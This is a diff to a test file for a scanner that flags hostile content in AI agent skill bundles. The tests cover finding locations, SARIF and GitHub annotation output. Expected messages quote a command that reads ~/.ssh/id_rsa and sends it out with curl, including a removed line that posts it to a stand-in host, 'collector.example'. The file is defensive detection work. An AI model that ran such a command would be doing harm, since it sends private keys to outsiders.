@@ -13,6 +13,11 @@ from hostile_skills import CONFUSABLE, HOSTILE, LOOK_ALIKES
 _LINE = re.compile(
     r"^\.dsh/skills/(?P<skill>[^/]+)/SKILL\.md:(?P<line>\d+):(?P<col>\d+): (?P<code>SD\d+) "
 )
+#: A finding of a bundle's other file, at that file.
+_AT_FILE = re.compile(
+    r"^\.dsh/skills/(?P<skill>[^/]+)/(?P<file>(?!SKILL\.md:)[^:]+):(?P<line>\d+):(?P<col>\d+): "
+    r"(?P<code>SD\d+) "
+)
 
 
 def _deck(root: Path, bundles: dict[str, tuple[str, dict[str, str]]]) -> None:
@@ -33,6 +38,17 @@ def _found(stdout: str) -> dict[str, list[tuple[str, int, int]]]:
     return found
 
 
+def _found_at_files(stdout: str) -> dict[str, list[tuple[str, str, int, int]]]:
+    found: dict[str, list[tuple[str, str, int, int]]] = {}
+    for line in stdout.splitlines():
+        match = _AT_FILE.match(line)
+        if match:
+            found.setdefault(match["skill"], []).append(
+                (match["file"], match["code"], int(match["line"]), int(match["col"]))
+            )
+    return found
+
+
 def test_every_hostile_fixture_is_caught_where_it_is(run: Run, tmp_path: Path) -> None:
     _deck(tmp_path, {h.name: (h.text, h.files) for h in HOSTILE})
 
@@ -40,8 +56,10 @@ def test_every_hostile_fixture_is_caught_where_it_is(run: Run, tmp_path: Path) -
 
     assert result.code == 1, result.stderr
     found = _found(result.stdout)
+    at_files = _found_at_files(result.stdout)
     for hostile in HOSTILE:
         assert sorted(found.get(hostile.name, [])) == sorted(hostile.expected), hostile.name
+        assert sorted(at_files.get(hostile.name, [])) == sorted(hostile.at_files), hostile.name
 
 
 def test_look_alikes_stay_quiet(run: Run, tmp_path: Path) -> None:
@@ -73,9 +91,8 @@ def test_messages_show_what_is_hidden(run: Run, tmp_path: Path) -> None:
         "invisible character(s) (bidirectional control): U+202E RIGHT-TO-LEFT OVERRIDE"
     ) in result.stdout
     assert (
-        ".dsh/skills/bundle-script/SKILL.md:1:1: SD1013 error in `scripts/setup.sh` line 4: "
-        "reads ~/.ssh/id_rsa (line 2) and sends it to `collector.example`: "
-        '`curl -d "k=$KEY" https://collector.example/up`'
+        ".dsh/skills/bundle-script/scripts/setup.sh:2:11: SD1013 error "
+        "reads ~/.ssh/id_rsa and sends it out: `KEY=$(cat ~/.ssh/id_rsa) ... curl -d`"
     ) in result.stdout
 
 
@@ -89,7 +106,9 @@ def test_select_sd10_is_the_family_alone(run: Run, tmp_path: Path) -> None:
     assert "SD1003" not in [f["code"] for f in json.loads(frontmatter.stdout)]
 
 
-def test_sarif_carries_the_family_with_related_locations(run: Run, tmp_path: Path) -> None:
+def test_sarif_locates_bundle_findings_in_their_files(run: Run, tmp_path: Path) -> None:
+    """A script's finding is a SARIF result at the script (code scanning annotates that
+    file); ``SKILL.md`` gets the SD1035 summary with a related location at each."""
     bundle = next(h for h in HOSTILE if h.name == "bundle-script")
     _deck(tmp_path, {bundle.name: (bundle.text, bundle.files)})
 
@@ -97,14 +116,42 @@ def test_sarif_carries_the_family_with_related_locations(run: Run, tmp_path: Pat
 
     sarif = json.loads(result.stdout)
     results = sarif["runs"][0]["results"]
-    assert sorted(r["ruleId"] for r in results) == ["SD1013", "SD1015"]
+    assert sorted(r["ruleId"] for r in results) == ["SD1013", "SD1015", "SD1035"]
     stolen = next(r for r in results if r["ruleId"] == "SD1013")
     assert stolen["level"] == "error"
-    related = stolen["relatedLocations"][0]["physicalLocation"]
-    assert related["artifactLocation"]["uri"] == ".dsh/skills/bundle-script/scripts/setup.sh"
-    assert related["region"]["startLine"] == 4  # where it leaves; the message names line 2
+    where = stolen["locations"][0]["physicalLocation"]
+    assert where["artifactLocation"]["uri"] == ".dsh/skills/bundle-script/scripts/setup.sh"
+    assert where["region"] == {"startLine": 2, "startColumn": 11, "endLine": 2, "endColumn": 24}
+    summary = next(r for r in results if r["ruleId"] == "SD1035")
+    assert summary["level"] == "note"
+    assert summary["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == (
+        ".dsh/skills/bundle-script/SKILL.md"
+    )
+    assert [
+        (
+            r["physicalLocation"]["artifactLocation"]["uri"],
+            r["physicalLocation"]["region"]["startLine"],
+        )
+        for r in summary["relatedLocations"]
+    ] == [
+        (".dsh/skills/bundle-script/config/creds.ini", 1),
+        (".dsh/skills/bundle-script/scripts/setup.sh", 2),
+    ]
     rules = {r["id"] for r in sarif["runs"][0]["tool"]["driver"]["rules"]}
-    assert {"SD1013", "SD1015"} <= rules
+    assert {"SD1013", "SD1015", "SD1035"} <= rules
+
+
+def test_github_annotations_name_the_bundle_file(run: Run, tmp_path: Path) -> None:
+    bundle = next(h for h in HOSTILE if h.name == "bundle-script")
+    _deck(tmp_path, {bundle.name: (bundle.text, bundle.files)})
+
+    result = run("check", "--select", "SD1013", "--format", "github", ".")
+
+    assert result.stdout == (
+        "::error file=.dsh/skills/bundle-script/scripts/setup.sh,line=2,col=11,endLine=2,"
+        "endColumn=24,title=SD1013::reads ~/.ssh/id_rsa and sends it out: "
+        "`KEY=$(cat ~/.ssh/id_rsa) ... curl -d`\n"
+    )
 
 
 def test_fix_removes_invisible_characters(run: Run, tmp_path: Path) -> None:
